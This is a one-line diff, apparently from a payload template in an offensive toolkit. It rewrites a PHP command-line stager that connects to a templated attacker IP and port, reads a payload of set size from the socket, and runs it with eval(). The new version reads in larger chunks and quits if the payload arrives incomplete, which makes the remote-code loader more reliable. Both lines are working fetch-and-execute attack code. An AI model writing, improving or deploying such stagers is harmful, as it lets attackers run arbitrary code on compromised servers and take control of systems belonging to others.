@@ -1 +1 @@
-php -r '$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);socket_connect($s, "{{SERVER_IP}}", {{SERVER_PORT}}); $b = ""; $d = "";for ($i=0; $i<{{PAYLOAD_SIZE}}; $i++) {$r = socket_recv($s, $d, 1, MSG_WAITALL);$b .= $d;} socket_close($s); eval($b);'
+php -r '$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);socket_connect($s, "{{SERVER_IP}}", {{SERVER_PORT}}); $len = {{PAYLOAD_SIZE}}; $b = ""; $d = "";while (strlen($b) < $len) {$r = socket_recv($s, $d, $len - strlen($b), MSG_WAITALL); if (!$r) {break;} $b .= $d;} socket_close($s); if (strlen($b) != $len) {die("Incomplete payload\n");} eval($b);'